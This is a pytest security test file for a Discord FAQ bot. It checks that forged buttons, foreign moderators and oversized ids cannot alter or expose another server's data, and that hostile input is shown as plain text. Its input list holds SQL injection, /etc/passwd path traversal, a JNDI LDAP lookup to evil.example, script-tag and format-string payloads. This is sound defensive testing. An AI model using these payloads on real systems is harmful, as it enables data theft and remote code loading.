"""People who try: forged buttons, what belongs to others, and text that is meant to do harm."""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import discord
import pytest
import simcord
from discord import app_commands, ui

from handlers.base import Interaction
from knowledge.entries import Draft
from knowledge.store import Store
from tests.handlers.conftest import World
from tests.handlers.moderating import ENTRY, WRITTEN, allow_everything, published
from tests.handlers.reading import text

SECRET = "zorkmid"
ASKED = f"Who pays the {SECRET} tax at the harbour?"


@app_commands.command(name="forge")
async def forge(interaction: Interaction, custom_id: str, value: str = "") -> None:
    """Show a card with a button, or a menu, of any custom id: nobody can do that in Discord, and yet."""
    view = ui.LayoutView(timeout=None)
    item: ui.Item[Any] = ui.Button(label="Press", custom_id=custom_id)
    if value:
        item = ui.Select(custom_id=custom_id, options=[discord.SelectOption(label="x", value=value)])
    view.add_item(ui.ActionRow(item))
    await interaction.response.send_message(view=view)


@dataclass
class Spoils:
    """A server with something to get at, and those who would like to."""

    world: World
    store: Store
    elsewhere: simcord.ChannelHandle
    stranger: simcord.MemberActor
    ids: dict[str, str]

    async def state(self) -> tuple[object, ...]:
        """Return all that could be changed, seen or taken away."""
        guild_id, store = self.world.guild.id, self.store
        return (
            await store.entries(guild_id),
            await store.revisions(guild_id, ENTRY),
            await store.drafts(guild_id),
            await store.open_questions(guild_id),
            await store.pointers(guild_id),
            await store.blocked(guild_id),
            await store.votes("ab" * 8),
            (await store.personal_data(self.world.asker.id)),
            self.world.bot.desk.settings(guild_id),
        )


@pytest.fixture
async def spoils(world: World, store: Store) -> AsyncIterator[Spoils]:
    """Return a server with an entry, a draft, a question, a pointer and a vote, and a moderator elsewhere."""
    now, guild_id = world.env.now(), world.guild.id
    await published(world)
    draft = await world.bot.desk.keep(
        Draft(
            guild_id,
            world.moderator.id,
            {**WRITTEN, "question": ASKED, "answer": f"The {SECRET} guild.", "alternatives": ""},
        )
    )
    asked = await store.ask_moderators(
        guild_id, world.asker.id, ASKED, "k", now, channel_id=None, tell="", quota=9
    )
    pointer = await world.bot.desk.point(guild_id, f"Where is the {SECRET}?", "fp-2019¶6", world.moderator.id)
    await store.vote("ab" * 8, world.asker.id, False, guild_id=guild_id, at=now)
    await store.vote_reason("ab" * 8, world.asker.id, f"no {SECRET}", ASKED)
    other = world.env.create_guild(name="Elsewhere")
    role = other.create_role(
        "Moderators", permissions=discord.Permissions(manage_messages=True, manage_guild=True)
    )
    stranger = other.add_member(world.env.create_user("mallory"), roles=[role])
    ids = {
        "draft": str(draft.id),
        "question": str(asked.question_id),
        "change": str(pointer.change),
        "author": str(world.moderator.id),
        "owner": str(world.asker.id),
        "mark": "0" * 12,
        "long": "0" * 16,
    }
    world.bot.tree.add_command(forge)
    await world.bot.sync_if_changed()
    yield Spoils(world, store, other.create_text_channel("general"), stranger, ids)
    world.env.errors.clear()


FORGED = [
    f"restore:1:{ENTRY}",
    f"history:0:{ENTRY}",
    f"diff:1:1:{ENTRY}",
    f"revert-to:1:{ENTRY}",
    f"revert:1:1:{ENTRY}",
    f"edit-revision:1:{ENTRY}",
    "draft:again:{draft}:{mark}",
    "draft:details:{draft}:{mark}",
    "draft:rebase:{draft}:1:",
    "draft:changes:{draft}",
    "draft:publish:{draft}:{mark}",
    "draft:submit:{draft}:{mark}",
    "draft:send-back:{draft}:{mark}",
    "draft:discard:{draft}:{mark}",
    "draft:drop:{draft}:{mark}",
    "draft:open:{draft}",
    "drafts:0",
    "pointers:0",
    "import:hand-on",
    "import:confirm:{author}:{long}",
    "import:cancel:{author}",
    "walk:0:question:{question}",
    "walk:0:draft:{draft}",
    "write:{question}:0",
    "point:{question}:0",
    "point-there:{question}:0:fp-2019¶7",
    "try-again:faq-details:{draft}:{mark}",
    "dismiss:{question}:0",
    "block-asker:{question}:0",
    "unpoint:{change}",
    "review-draft:{draft}",
    f"edit-due:{ENTRY}",
    "tell:dm:{question}",
    "take-back:{question}",
    "my-data:page:0",
    "my-data:summary",
    "my-data:export",
    "my-data:delete",
    "my-data:delete-now",
    "setting:two-person-rule:on",
    "setting:questions",
    "delete:{owner}",
]
MENUS = [
    (f"changes:{ENTRY}", "1"),
    ("drafts", "{draft}"),
    ("pointer", "{change}"),
    ("answer-with:1", ENTRY),
    ("setting:visibility", "public"),
]


@pytest.mark.parametrize(("forged", "value"), [*((one, "") for one in FORGED), *MENUS])
@pytest.mark.parametrize("whose", ["a member here", "a moderator elsewhere"])
async def test_a_forged_button_shows_and_changes_nothing_of_others(
    spoils: Spoils, whose: str, forged: str, value: str
) -> None:
    world = spoils.world
    here = whose == "a member here"
    who, channel = (world.other, world.channel) if here else (spoils.stranger, spoils.elsewhere)
    custom_id, chosen = forged.format(**spoils.ids), value.format(**spoils.ids)
    card = (await who.slash(channel, "forge", custom_id=custom_id, value=chosen)).response
    assert card is not None
    before = await spoils.state()
    pressed = await (who.select(card, [chosen]) if value else who.click(card, label="Press"))
    assert pressed.acknowledged
    assert await spoils.state() == before
    shown = [text(one) for one in (pressed.response, *pressed.followups, card) if one is not None]
    assert SECRET not in " ".join([*shown, str(pressed.modal)])
    assert "Something went wrong" not in " ".join(shown)


@pytest.mark.parametrize("forged", ["draft:open:{draft}", "write:{question}:0", "walk:0:question:{question}"])
async def test_the_same_button_works_for_whom_it_is_meant(spoils: Spoils, forged: str) -> None:
    """Else the tests before this one could not fail."""
    world = spoils.world
    card = (
        await world.moderator.slash(world.channel, "forge", custom_id=forged.format(**spoils.ids))
    ).response
    pressed = await world.moderator.click(card, label="Press")  # type: ignore[arg-type]
    shown = [text(one) for one in (pressed.response, *pressed.followups, card) if one is not None]
    assert SECRET in " ".join([*shown, str(pressed.modal)])


async def test_whoever_asked_takes_the_question_back_by_the_same_button(spoils: Spoils) -> None:
    world, custom_id = spoils.world, f"take-back:{spoils.ids['question']}"
    card = (await world.asker.slash(world.channel, "forge", custom_id=custom_id)).response
    await world.asker.click(card, label="Press")  # type: ignore[arg-type]
    assert await spoils.store.open_questions(world.guild.id) == ()


NUMBERS = [one for one in FORGED if "{draft}" in one or "{question}" in one or "{change}" in one]


@pytest.mark.parametrize("forged", [*NUMBERS, "go:1:{draft}:", "share:{draft}"])
async def test_a_number_beyond_all_bounds_is_somebody_elses(spoils: Spoils, forged: str) -> None:
    """A moderator is let further in, and still nothing breaks."""
    world, before = spoils.world, await spoils.state()
    custom_id = forged.format(**spoils.ids | dict.fromkeys(("draft", "question", "change"), "9" * 60))
    card = (await world.moderator.slash(world.channel, "forge", custom_id=custom_id)).response
    assert card is not None
    assert (await world.moderator.click(card, label="Press")).acknowledged
    assert await spoils.state() == before


COMMANDS: list[tuple[str, dict[str, str]]] = [
    ("faq-desk edit", {"id": ENTRY}),
    ("faq-desk retire", {"id": ENTRY}),
    ("faq-desk restore", {"id": ENTRY}),
    ("faq-desk history", {"id": ENTRY}),
    ("faq-desk diff", {"id": ENTRY}),
    ("faq-desk export", {}),
    ("faq-desk drafts", {}),
    ("faq-desk pointers", {}),
    ("faq-desk review", {}),
    ("faq-desk stats", {}),
    ("settings", {}),
    ("reload", {}),
]


@pytest.mark.parametrize(("command", "options"), COMMANDS)
async def test_where_a_server_shows_the_commands_to_all_the_rights_are_checked_all_the_same(
    spoils: Spoils, command: str, options: dict[str, str]
) -> None:
    world, before = spoils.world, await spoils.state()
    allow_everything(world, world.other)
    result = await world.other.slash(world.channel, command, **options)
    assert result.acknowledged
    assert result.ephemeral
    assert "Only " in text(result.response)
    assert SECRET not in text(result.response)
    assert await spoils.state() == before


@pytest.mark.parametrize(("command", "options"), COMMANDS)
async def test_a_moderator_elsewhere_sees_nothing_of_this_server(
    spoils: Spoils, command: str, options: dict[str, str]
) -> None:
    before = await spoils.state()
    for one in spoils.world.env.backend.commands[None].values():
        elsewhere = spoils.elsewhere.guild
        assert elsewhere
        elsewhere.set_command_permissions(int(one["id"]), {spoils.stranger: True})
    result = await spoils.stranger.slash(spoils.elsewhere, command, **options)
    assert result.acknowledged
    shown = [text(one) for one in (result.response, *result.followups) if one is not None]
    assert SECRET not in " ".join([*shown, str(result.modal)])
    assert "harbour" not in " ".join([*shown, str(result.modal)])
    assert await spoils.state() == before


# Text that is meant to do harm

MARKUP = (
    "@everyone @here <@1> <@&2> <#3> **x** [safe](https://evil.example/) ||y|| `z` # h\n# big\n> q\n-# small"
)
HOSTILE = [
    MARKUP,
    "\u202eeht ekil gnihton si siht \u2066\u2067 a\u200bb\u200dc\u2060d\ufeffe \u061c",
    "'; DROP TABLE entries; -- \" OR 1=1 /* */ UNION SELECT token FROM settings",
    "../../../../etc/passwd\0 file:///etc/passwd C:\\windows\\system32 %2e%2e%2f",
    "{{7*7}} ${jndi:ldap://evil.example/a} <script>alert(1)</script> %s%s%n {0.__class__}",
    "x" * 300,
    "\\" * 299,
    "[" * 150 + "](" * 70,
    "Z̸̢̛̼͖̘͋͝a̷̧̼͖̘͋l̴̢̛̼͖̘͋g̸̢̛̼͖̘͋o̷̧̼͖̘͋ " * 5,
    "👩‍🌾" * 60,
    "왜" * 300,
    "\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "replace") + "?",
]
INVISIBLE = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\0")
TAKING: list[tuple[str, str, int]] = [
    ("ask", "question", 300),
    ("who", "name", 80),
    ("cite", "reference", 80),
    ("sources", "source", 80),
    ("timeline", "period", 80),
    ("timeline", "topic", 80),
    ("timeline", "actor", 80),
    ("exports", "period", 80),
    ("faq search", "words", 300),
    ("faq show", "id", 80),
    ("faq list", "tag", 80),
]


def assert_harmless(shown: Any, typed: str) -> None:
    """Assert that a card pings nobody, hides no link and turns no line round."""
    said = text(shown)
    assert not shown.message.mentions
    assert not shown.message.mention_everyone
    assert not shown.message.role_mentions
    assert "](https://evil.example" not in said
    assert "\n# big" not in said
    assert not INVISIBLE & set(said)
    assert "Traceback" not in said
    assert "Something went wrong" not in said
    if typed is MARKUP:
        assert "**x**" not in said
        assert "||y||" not in said


@pytest.mark.parametrize(("command", "option", "longest"), TAKING)
async def test_whatever_is_typed_into_a_command_is_shown_as_text(
    world: World, command: str, option: str, longest: int
) -> None:
    for typed in HOSTILE:
        result = await world.asker.slash(
            world.channel, command, **{option: typed[:longest].strip("\0") or "x", "visibility": "public"}
        )
        assert result.acknowledged
        assert_harmless(result.response, typed)
        offered = (
            []
            if command in ("ask", "faq search")
            else await world.asker.autocomplete(world.channel, command, option, typed[:longest])
        )
        assert all(1 <= len(one["name"]) <= 100 for one in offered)


@pytest.mark.parametrize("typed", HOSTILE)
async def test_whatever_is_said_to_the_bot_is_shown_as_text(world: World, typed: str) -> None:
    said = await world.asker.send(world.channel, f"{world.mention} {typed}")
    await world.env.settle()
    reply = world.channel.history()[-1]
    assert reply.author.id != world.asker.id
    assert not {user.id for user in reply.mentions} - {world.asker.id}
    assert not reply.mention_everyone
    assert "](https://evil.example" not in text(reply)
    assert not INVISIBLE & set(text(reply))
    about = await world.other.context_menu(world.channel, "Ask about this", said)
    assert about.acknowledged


async def test_a_flood_of_long_messages_is_answered_within_the_limits_of_discord(world: World) -> None:
    for typed in ("<@1>" * 500, "> " * 1000, "`" * 2000, "aid " * 500, "2018-12.." * 200):
        await world.asker.send(world.channel, f"{world.mention} {typed}"[:2000])
    await world.env.settle()
    replies = [one for one in world.channel.history() if one.author.id != world.asker.id]
    assert len(replies) == 5


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd.yaml", "..\\..\\x.json", "con.yaml", "a\u202elmay.yaml"]
)
async def test_the_name_of_an_attachment_leads_nowhere(spoils: Spoils, name: str) -> None:
    world, before = spoils.world, await spoils.state()
    file = (name, b"- id: x\n  question: 7\n")
    result = await world.moderator.slash(world.channel, "faq-desk import", file=file)
    shown = result.response or result.followups[0]
    assert "fault" in text(shown)
    assert not INVISIBLE & set(text(shown))
    assert await spoils.state() == before


OPEN_TO_ALL = {
    *("Go", "Open", "Try", "Share", "Export", "FormatMenu", "Vote", "SayWhy", "ShowHelp", "AskModerators"),
    *("ShowChart", "ShareChart"),
}
"""The kinds of buttons that show nothing but what anybody may ask for."""


async def test_every_kind_of_button_is_tried(spoils: Spoils) -> None:
    tried = [one.format(**spoils.ids) for one in (*FORGED, *(custom_id for custom_id, _ in MENUS))]
    kinds = {one.__name__: one.__discord_ui_compiled_template__ for one in spoils.world.bot._items}
    untried = {name for name, template in kinds.items() if not any(map(template.fullmatch, tried))}
    assert untried - OPEN_TO_ALL == set()
